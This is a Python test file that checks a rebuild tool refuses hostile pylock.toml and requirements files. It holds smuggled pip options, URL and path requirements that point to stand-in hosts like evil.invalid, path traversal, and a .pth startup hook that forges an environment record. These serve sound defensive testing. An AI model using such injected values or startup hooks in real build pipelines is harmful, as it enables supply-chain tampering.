"""Hostile locks ([REB-24]): whatever a release's pylock.toml or requirements file holds,
reading it gives a Lock whose requirements name only NAME==VERSION with hashes, or a
LockError saying where it is wrong; pip is never handed an option, a URL or a path."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rebuildable.api import rebuild
from rebuildable.rebuild import RebuildOptions
from rebuildable.rebuild.environment import (
    LOCK_MAX_BYTES,
    LockError,
    parse_lock,
    read_probe,
    setup_command,
)
from tests.fuzz.mutate import mutated
from tests.support import make_release
from tests.unit.rebuildable.rebuild.test_environment import make_wheel, pylock, release

H = "sha256:" + "ab" * 32
PYLOCK_HEAD = 'lock-version = "1.0"\n'


def _pkg(body: str) -> bytes:
    return (PYLOCK_HEAD + '[[packages]]\nname = "x"\nversion = "1.0"\n' + body).encode()


# Each line: hostile requirements text, what the refusal says. Before the strict reader,
# all but the first were accepted and their text went to pip verbatim.
REQUIREMENTS = [
    ("rbtoy>=1.0 --hash=" + H, "not pinned"),
    # a URL or a path in place of a name: pip fetches or reads it despite --no-index
    (f"https://evil.invalid/x-1.0-py3-none-any.whl#egg=x==1.0 --hash={H}", "not NAME==VERSION"),
    (f"../../outside/x-1.0-py3-none-any.whl==1.0 --hash={H}", "not NAME==VERSION"),
    (f"x @ file:///etc/x.whl==1.0 --hash={H}", "not NAME==VERSION"),
    # options after the requirement, joined by a continuation or a tab
    (f"x==1.0 --hash={H} \\\n-r ../other.txt", "not '-r'"),
    (f"x==1.0 --hash={H} \\\r\n-r ../other.txt", "not '-r'"),
    (f"x==1.0 --hash={H}\t-e git+https://evil.invalid/x", "not '-e'"),
    (f"x==1.0 --hash={H} --index-url=https://evil.invalid/", "not '--index-url"),
    (f"x==1.0 --hash={H} --find-links /etc", "not '--find-links'"),
    ("--find-links /etc\nx==1.0 --hash=" + H, "option lines"),
    ("-e .\n", "option lines"),
    # hashes pip would not check, or that are no digest
    ("x==1.0 --hash=md5:" + "0" * 32, "not sha256:"),
    ("x==1.0 --hash=sha256:00", "not 64 hex digits"),
    (f"x==1.0 --hash={H};-r", "not 64 hex digits"),
    # a marker that carries an option
    (f'x==1.0 ; python_version > "3" -r ../o.txt --hash={H}', "not '-r'"),
    (f"x==1.0 ; os_name == '/etc/passwd' --hash={H}", "marker"),
]


@pytest.mark.parametrize(("text", "why"), REQUIREMENTS)
def test_hostile_requirements_are_refused_with_their_line(text: str, why: str) -> None:
    with pytest.raises(LockError, match="line 1") as caught:
        parse_lock("requirements", text.encode())
    assert why in str(caught.value)


PYLOCKS = [
    # wrong TOML types: each was an AttributeError or TypeError (a traceback)
    (PYLOCK_HEAD + 'packages = "abc"\n', "packages is not an array"),
    (PYLOCK_HEAD + "packages = 5\n", "packages is not an array"),
    (PYLOCK_HEAD + '[packages]\nname = "x"\n', "packages is not an array"),
    (PYLOCK_HEAD + 'packages = ["x"]\n', r"packages\[1\] is not a table"),
    (_pkg("wheels = {a = 1}\n").decode(), "wheels is not an array"),
    (_pkg('wheels = ["x.whl"]\n').decode(), r"wheels\[1\] is not a table"),
    (_pkg('wheels = [{hashes = ["a"]}]\n').decode(), "hashes is not a table"),
    (_pkg("wheels = [{hashes = {sha256 = 5}}]\n").decode(), "not a string"),
    # a name or version that writes lines of its own into pip's requirements
    (PYLOCK_HEAD + '[[packages]]\nname = "x\\n--index-url https://evil.invalid"\n'
     f'version = "1"\nwheels = [{{hashes = {{sha256 = "{"ab" * 32}"}}}}]\n', "NAME==VERSION"),
    (PYLOCK_HEAD + '[[packages]]\nname = "x @ https://evil.invalid/x.whl"\n'
     f'version = "1"\nwheels = [{{hashes = {{sha256 = "{"ab" * 32}"}}}}]\n', "NAME==VERSION"),
    (PYLOCK_HEAD + '[[packages]]\nname = "x"\nversion = "1 --find-links /etc"\n'
     f'wheels = [{{hashes = {{sha256 = "{"ab" * 32}"}}}}]\n', "NAME==VERSION"),
    (_pkg('wheels = [{hashes = {"sha256 --find-links /etc" = "00"}}]\n').decode(),
     "no sha256, sha384 or sha512"),
    # an sdist (or other source) only: pip would build it, running its code
    (_pkg(f'sdist = {{name = "x-1.0.tar.gz", hashes = {{sha256 = "{"ab" * 32}"}}}}\n')
     .decode(), "only a sdist source"),
    (_pkg('vcs = {type = "git", url = "https://evil.invalid/x"}\n').decode(), "only a vcs"),
    # wheel names and paths that leave the wheel folder
    (_pkg(f'wheels = [{{name = "../../x-1.0-py3-none-any.whl", hashes = {{sha256 = '
          f'"{"ab" * 32}"}}}}]\n').decode(), "not a wheel file name"),
    (_pkg(f'wheels = [{{path = "/etc/x-1.0-py3-none-any.whl", hashes = {{sha256 = '
          f'"{"ab" * 32}"}}}}]\n').decode(), "not a wheel file name"),
    (_pkg(f'wheels = [{{path = "a/../../x.whl", hashes = {{sha256 = "{"ab" * 32}"}}}}]\n')
     .decode(), "not a wheel file name"),
    (_pkg(f'marker = "os_name == \'x\' --index-url=https://e"\n'
          f'wheels = [{{hashes = {{sha256 = "{"ab" * 32}"}}}}]\n').decode(), "marker"),
    # not TOML, or TOML nested past what tomllib's recursion takes
    ("a = " + "[" * 5000 + "]" * 5000, "nested too deeply"),
    ('lock-version = "1.0"\n[[packages]\n', "not TOML"),
    ('lock-version = 1.0\n', "lock-version 1.x"),
    # tomllib's int() of a 5000-digit number: a ValueError, found by the fuzzer below
    ("a = " + "9" * 5000 + "\n", "reader takes: Exceeds the limit"),
]


@pytest.mark.parametrize(("text", "why"), PYLOCKS)
def test_hostile_pylocks_are_refused(text: str, why: str) -> None:
    with pytest.raises(LockError, match=why):
        parse_lock("pylock", text.encode())


@pytest.mark.parametrize("kind", ["pylock", "requirements"])
def test_bytes_that_are_no_text_are_refused_with_their_line(kind: str) -> None:
    with pytest.raises(LockError, match="line 2: not UTF-8"):
        parse_lock(kind, b"# x\n\xff\xfe\n")
    with pytest.raises(LockError, match="line 1: a NUL byte"):
        parse_lock(kind, b"x==1\0")
    with pytest.raises(LockError, match="larger than"):
        parse_lock(kind, b"#" * (LOCK_MAX_BYTES + 1))


def test_what_pip_reads_is_rewritten_from_what_passed() -> None:
    """pip-compile's layout (continuations, comments, markers, extras) reads, and pip
    is given one clean line per package."""
    text = (f"# generated\nfoo[bar, baz]==1.0 ; python_version >= \"3.8\" \\\n"
            f"    --hash={H} \\\n    --hash {H.replace('sha256:', 'sha256:')}\n"
            f"    # via bar\nBar_baz.q==2.0.post1+local.1 --hash={H.upper()[:6].lower()}"
            f"{H[6:].upper()}  # note\n")
    lock = parse_lock("requirements", text.encode())
    assert lock.requirements == (
        f'foo[bar,baz]==1.0 ; python_version >= "3.8" --hash={H} --hash={H}\n'
        f"Bar_baz.q==2.0.post1+local.1 --hash={H}\n")


SEED_REQUIREMENTS = (f"foo==1.0 \\\n    --hash={H}\n# c\nbar==2 ; @@ --hash={H}\n").encode()
SEED_PYLOCK = _pkg(f'wheels = [{{name = "@@", hashes = {{sha256 = "{"ab" * 32}"}}}}]\n'
                   '[[packages]]\nname = "y"\nversion = "2"\n'
                   f'sdist = {{hashes = {{sha256 = "{"ab" * 32}"}}}}\n')


@given(data=mutated([SEED_REQUIREMENTS, SEED_PYLOCK, b"a = [[@@]]\n"]), kind=st.sampled_from(
    ["pylock", "requirements"]))
def test_any_bytes_give_a_lock_or_a_lock_error(data: bytes, kind: str) -> None:
    try:
        lock = parse_lock(kind, data)
    except LockError as exc:
        message = str(exc)
    else:
        message = ""
        for line in lock.requirements.splitlines():  # what pip reads: no option, URL, path
            words = line.split()
            assert not words[0].startswith("-")
            assert "/" not in words[0]
            assert "@" not in line
            assert all(w.startswith("--hash=sha") for w in words if w.startswith("-"))
    assert message or lock.requirements is not None


def test_a_lock_with_a_url_fails_its_step_before_pip_runs(tmp_path: Path) -> None:
    """Hostile asset: a hashed requirement whose name is a URL; the rebuild reports the
    lock, never runs pip (which would fetch the URL even with --no-index)."""
    lock = f"https://evil.invalid/x-1.0-py3-none-any.whl#egg=x==1.0 --hash={H}\n".encode()
    rel = make_release(tmp_path / "rel", {"requirements.txt": lock, "out.txt": b"x\n"},
                       [{"id": "use", "run": "cat requirements.txt > out.txt",
                         "inputs": ["lock"], "outputs": ["out"], "environment": "lock"}],
                       ids={"requirements.txt": "lock", "out.txt": "out"},
                       kinds={"requirements.txt": "environment"})
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    report = rebuild(rel, RebuildOptions(timeout=60, wheels=wheels))
    failed = [f for f in report.findings if f.code == "rebuild.environment-failed"]
    assert len(failed) == 1
    assert "not a usable lock: line 1:" in failed[0].message
    assert "environment" not in report.to_dict()["rebuild"]["steps"][0]


def test_pip_reads_no_configuration_file() -> None:
    """A pip.conf of the machine (/etc/pip.conf) or of the caller's Python (its
    sys.prefix) naming find-links or an index URL would be fetched: the install reads
    none (PIP_CONFIG_FILE=/dev/null is pip's switch for all of them)."""
    command = setup_command("python3", wheels="/w", network=False, install=True)
    install = next(part for part in command.split(" && ") if " pip " in part)
    assert install.startswith("PIP_CONFIG_FILE=/dev/null ")
    assert "--no-index" in install


FORGE = ("import atexit, json; atexit.register(lambda: open('.rebuild/environment.json', 'w')"
         ".write(json.dumps({'lock': 5, 'packages': 'forged', 'interpreter': 'CPython 9.9', "
         "'installed': [{'name': 'numpy', 'version': '99'}], 'evil': 1})))\n")


def test_a_wheel_that_runs_code_at_startup_cannot_write_the_environment_record(
        tmp_path: Path) -> None:
    """Hostile asset: a locked wheel with a .pth file, which Python runs at every start,
    rewriting the probe's file on exit. Before: the report's environment said lock 5,
    packages 'forged', CPython 9.9 and numpy 99 (the probe ran with site, and its file
    was merged whole into the record)."""
    wheel = make_wheel(tmp_path / "wheels", extra={"rbtoy_forge.pth": FORGE.encode()})
    rel = release(tmp_path / "rel", "pylock.toml", pylock(wheel))
    report = rebuild(rel, RebuildOptions(timeout=120, wheels=tmp_path / "wheels"))
    env = report.to_dict()["rebuild"]["steps"][0]["environment"]
    assert env["lock"] == "pylock"
    assert env["packages"][0]["name"] == "rbtoy"
    assert env["interpreter"].startswith("CPython 3.")
    assert env["installed"] == [{"name": "rbtoy", "version": "1.0"}]
    assert "evil" not in env


@pytest.mark.parametrize("content", [
    b"[" * 100_000 + b"]" * 100_000,  # RecursionError, which the old reader let escape
    b'{"interpreter": 5, "installed": "x", "platform": "p"}',
    b"\xff\xfe",
    b"{" + b" " * (5 * 1024 * 1024) + b"}",
])
def test_a_probe_file_of_any_bytes_gives_what_it_can(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "environment.json"
    path.write_bytes(content)
    found = read_probe(path)
    assert set(found) <= {"platform"}


def test_a_probe_that_is_a_fifo_or_a_link_is_not_read(tmp_path: Path) -> None:
    """A FIFO would block the rebuilder forever; a link would be read outside the work
    folder."""
    fifo = tmp_path / "fifo.json"
    os.mkfifo(fifo)
    assert read_probe(fifo) == {}
    outside = tmp_path / "outside.json"
    outside.write_text('{"platform": "elsewhere"}')
    link = tmp_path / "link.json"
    link.symlink_to(outside)
    assert read_probe(link) == {}
    # the folder it lies in a link to a folder outside the work folder
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "environment.json").write_text('{"platform": "elsewhere"}')
    (tmp_path / ".rebuild").symlink_to(elsewhere)
    assert read_probe(tmp_path / ".rebuild" / "environment.json") == {}
